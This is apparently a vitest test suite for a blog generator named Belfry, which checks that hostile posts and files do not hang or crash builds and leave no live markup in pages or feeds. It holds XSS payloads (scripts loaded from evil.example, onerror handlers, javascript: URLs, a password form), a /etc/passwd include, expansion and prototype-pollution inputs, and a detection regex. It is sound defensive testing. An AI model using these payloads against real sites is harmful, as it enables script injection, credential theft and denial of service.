/**
 * Posts that somebody wrote to hang Belfry, to exhaust it, to end it, or to get something past it: through all that
 * is done with a post, and through a run beside a post that is none. The whole corpus: npm run bench:hostile.
 */
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { belfry } from '../support/cli.js'
import { shapes } from '../support/hostile-shapes.js'
import { makeProject, type Project } from '../support/project.js'
import { largest, postOf, throughAll } from '../support/whole-path.js'

/** One of each kind, and not those that take longest: what is quadratic takes minutes of each. */
const WORST = [
  'code that never ends, spread',
  'preformatted, spread',
  'updates, spread',
  'quotes of depth',
  'blanks behind labels',
  'updates, as many as may be',
  'dated items, as many as are compared',
  'prose',
  'lists in lists, indented',
  'tags that never end',
  'tags in tags, each a line',
  'struck out around blocks',
  'raised in raised',
  'links in links',
  'a table that spans',
  'words between angle brackets',
  'scripts that never end',
  'markdown in html',
  'brackets of links',
  'images in images',
  'links that never end',
  'footnotes',
  'footnotes that chain',
  'footnotes named often',
  'ticks of many lengths',
  'headings of one name',
  'tables, headless, of one row of many',
  'templates',
  'fenced blocks',
  'update items',
  'seals on a line',
  'two words at random',
  'scripts without spaces',
  'ligatures that grow',
  'notes by hand',
]

/** Of the largest that is read: half, or all of it where TEST_POSTS is `all`. */
const SHARE = process.env.TEST_POSTS === 'all' ? 1 : 0.5
/** CPU of a stage on a slow machine that others use as well; the largest takes less than 2 s on one that is free. */
const MOST_SECONDS = 20 * SHARE

describe('a post at the limits of what is read takes no longer than a person waits', () => {
  test.each(WORST)('%s', async (name) => {
    const shape = shapes[name]
    expect(shape).toBeDefined()
    const stages = await throughAll(postOf(largest(shape ?? String, SHARE)))
    expect(stages.filter(({ cpuSeconds }) => cpuSeconds > MOST_SECONDS)).toEqual([])
    expect(stages.length).toBeGreaterThanOrEqual(1)
  })
})

test('as they were first sent: footnotes, tags and notes in a sentence without end are named and read by nobody', async () => {
  const project = await makeProject('sqlite')
  project.post('2026-05-01-good.md', { title: 'Good news' }, 'All is well.')
  const sent = {
    'footnotes that chain': 100_000,
    'tags that never end': 400_000,
    'footnotes inside a sentence': 100_000,
    'brackets that open': 200_000,
    'emphasis in emphasis': 250_000,
  }
  for (const [index, [name, characters]] of Object.entries(sent).entries())
    project.post(`2026-05-02-bad-${index}.md`, { title: name }, shapes[name]?.(characters) ?? '')
  const result = await belfry(['build', '--json'], { config: project.configFile, now: '2026-05-03T00:00:00Z' })
  const { problems } = result.json() as { problems: { code: string; file: string; line?: number; fix: string }[] }
  expect(problems.map(({ code }) => code).sort()).toEqual([
    ...Array.from({ length: 4 }, () => 'POST_LIMIT'),
    'POST_TOO_LARGE',
  ])
  for (const one of problems) {
    expect(one.line).toBeGreaterThan(0)
    expect(one.fix).not.toBe('')
  }
  expect(result.code).toBe(1)
  expect(readFileSync(join(project.public, 'atom.xml'), 'utf8')).toContain('Good news')
})

/** What no page, feed or mail may hold. */
const LIVE =
  /<(?:script|iframe|object|embed|form|input|svg|math|style|link|meta|base)\b(?! rel="(?:self|alternate|stylesheet|icon)")|\son\w+\s*=\s*["']|(?:href|src|action)\s*=\s*["']?\s*(?:javascript|data|vbscript|file):/i

/** A body, or the whole file, of an attack; what of it may be read as a post. */
const attacks: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'a script that closes what is around it': '</article></body><script src="https://evil.example/x.js"></script>',
  'a script in a comment that closes twice': '<!-- --!><script>alert(1)</script> -->',
  'a script in a broken attribute': '<a title="</a><script>alert(1)</script>">x</a>',
  'a handler': '<img src="/a.png" onerror="alert(1)"><b onclick=alert(1)>x</b>',
  'a handler without spaces': '<img/src="/a.png"/onerror=alert(1)>',
  'an address that runs':
    '[x](javascript:alert(1)) <a href="JaVa\tScript:alert(1)">y</a> <a href="&#106;avascript:alert(1)">z</a>',
  'an address that holds a page':
    '[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml,<svg/onload=alert(1)>)',
  'an address by reference': '[x][1]\n\n[1]: javascript:alert(1)\n[2]: <vbscript:x>',
  'a form that asks for a password': '<form action="https://evil.example"><input type=password></form>',
  'a frame': '<iframe src="https://evil.example"></iframe><object data="https://evil.example/x.swf"></object>',
  'a style that loads':
    '<style>@import url(https://evil.example)</style><b style="background:url(https://evil.example)">x</b>',
  'a picture of one pixel': '<img src="https://evil.example/pixel.gif" width="1" height="1">',
  'SVG and MathML': '<svg><a xlink:href="javascript:alert(1)">x</a></svg><math href="javascript:alert(1)">y</math>',
  'noscript and template':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>1</script></template>',
  'a base and a refresh':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  'an end of CDATA': ']]><script>alert(1)</script><![CDATA[',
  'entities that expand': '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>&b;&amp;lt;script&amp;gt;',
  'marks of Belfry itself': '\uE000\u0000{{ unsubscribe_url }} %%UNSUBSCRIBE%% {% include "/etc/passwd" %}',
  'markup in a title of a code block': '```"><script>alert(1)</script>\nx\n```',
  'markdown inside HTML that breaks out':
    '<div markdown="1" onmouseover="alert(1)"><script>\n\nalert(1)\n\n</script></div>',
  'an id that takes over': '# x {#"><script>alert(1)</script>}\n\n<p id="x" name="y">z</p>',
}

describe('an attack that is read as a post leaves nothing live in pages and feeds', () => {
  test.each(Object.entries(attacks))('%s', async (_name, body) => {
    const project = await makeProject('sqlite')
    project.post('2026-05-01-attack.md', { title: 'An attack' }, `Words of a post.\n\n${body}\n\nMore words.`)
    const result = await belfry(['build', '--json'], { config: project.configFile, now: '2026-05-03T00:00:00Z' })
    expect(result.stderr).not.toMatch(/RangeError|TypeError|at .*\.js:\d/)
    const written = filesOf(project, /\.(?:html|xml|json)$/).filter(({ path }) => !path.includes('manifest'))
    expect(written.some(({ text }) => text.includes('More words.'))).toBe(true)
    for (const { path, text } of written) {
      const body = path.endsWith('.html') ? ofArticle(text) : contentOf(path, text)
      expect(body.match(LIVE)?.[0], path).toBeUndefined()
      expect(body, path).not.toMatch(/root:.*:0:0:|<img[^>]*evil\.example\/pixel/)
    }
  })
})

function filesOf(project: Project, ending: RegExp) {
  return readdirSync(project.public, { recursive: true, encoding: 'utf8' })
    .filter((path) => ending.test(path))
    .map((path) => ({ path, text: readFileSync(join(project.public, path), 'utf8') }))
}

/** Of a page, without what Belfry itself puts around. */
function ofArticle(html: string): string {
  return /<article\b[\s\S]*<\/article>/.exec(html)?.[0] ?? ''
}

/** The HTML inside of a feed. */
function contentOf(path: string, text: string): string {
  if (path.endsWith('.json')) return JSON.stringify(text).includes('content_html') ? jsonHtml(text) : ''
  const found = [...text.matchAll(/<(?:content|content:encoded)[^>]*>([\s\S]*?)<\/(?:content|content:encoded)>/g)]
  return found
    .map(([, inner = '']) =>
      inner.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&amp;', '&'),
    )
    .join('\n')
}

function jsonHtml(text: string): string {
  const { items = [] } = JSON.parse(text) as { items?: { content_html?: string }[] }
  return items.map(({ content_html = '' }) => content_html).join('\n')
}

/** Whole files, each of which is to cost itself alone. */
const files: Readonly<Record<string, string | Uint8Array>> = {
  'YAML that expands': `---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b,*b,*b]\ntitle: x\n---\nb\n`,
  'YAML in YAML in YAML': `---\ntitle: ${'['.repeat(4000)}\n---\nb\n`,
  'front matter that runs': '---js\n{ title: process.exit(1) }\n---\nb\n',
  'a prototype': '---\ntitle: x\n__proto__: {admin: true}\nconstructor: {prototype: {x: 1}}\ntoString: 1\n---\nb\n',
  'a title of sixty thousand letters': `---\ntitle: "${'a '.repeat(30_000)}"\n---\nb\n`,
  'a title of versions': `---\ntitle: "${'1.2.'.repeat(15_000)}"\n---\nb\n`,
  'updates beyond number': `---\ntitle: x\nupdates:\n${'  - {date: 2026-05-01, text: a}\n'.repeat(1500)}---\nb\n`,
  'categories beyond number': `---\ntitle: x\ncategories: [${'a, '.repeat(20_000)}b]\n---\nb\n`,
  'nothing but zeros': new Uint8Array(200_000),
  'bytes of an image': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0xff, 0xfe, 0x00]),
  'half a character': Buffer.from([...Buffer.from('---\ntitle: x\n---\n'), 0xe2, 0x82]),
  'lines without end': '\r'.repeat(250_000),
  'dashes without end': '---\n'.repeat(60_000),
}

describe('a file that is no post costs itself alone', () => {
  test.each(Object.entries(files))('%s', async (_name, bytes) => {
    const project = await makeProject('sqlite')
    project.post('2026-05-01-good.md', { title: 'Good news' }, 'All is well.')
    writeFileSync(join(project.posts, '2026-05-02-bad.md'), bytes)
    const result = await belfry(['run', '--json'], { config: project.configFile, now: '2026-05-03T00:00:00Z' })
    expect(result.stderr).not.toMatch(/RangeError|TypeError|at .*\.js:\d/)
    expect([0, 1]).toContain(result.code)
    expect(readFileSync(join(project.public, 'atom.xml'), 'utf8')).toContain('Good news')
    expect(Object.prototype).not.toHaveProperty('admin')
  })

  test('folders in folders, and links to themselves', async () => {
    const project = await makeProject('sqlite')
    project.post('2026-05-01-good.md', { title: 'Good news' }, 'All is well.')
    mkdirSync(join(project.posts, ...Array.from({ length: 60 }, () => 'deep')), { recursive: true })
    symlinkSync(project.posts, join(project.posts, 'again'))
    symlinkSync('2026-05-02-self.md', join(project.posts, '2026-05-02-self.md'))
    symlinkSync('/dev/zero', join(project.posts, '2026-05-03-zero.md'))
    const result = await belfry(['build', '--json'], { config: project.configFile, now: '2026-05-03T00:00:00Z' })
    expect(result.code).toBe(1)
    expect(readFileSync(join(project.public, 'atom.xml'), 'utf8')).toContain('Good news')
  })
})
